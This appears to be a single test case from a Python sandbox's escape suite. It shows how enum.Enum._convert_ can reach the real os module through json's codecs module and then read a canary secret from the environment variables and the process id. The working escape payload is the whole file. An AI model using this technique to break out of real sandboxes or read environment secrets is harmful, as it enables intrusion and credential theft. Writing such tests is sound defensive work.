# technique: enum.Enum._convert_ (a single-underscore classmethod) reads sys.modules[name].__dict__ for any module name and returns its values as members: json's real codecs module
# expect: any
import enum
E = enum.Enum._convert_("E", "json", lambda name: name == "codecs")
real_codecs = E.codecs.value
os_mod = real_codecs.sys.modules["os"]
(os_mod.environ.get("SAFEPY_CANARY_SECRET"), os_mod.getpid())
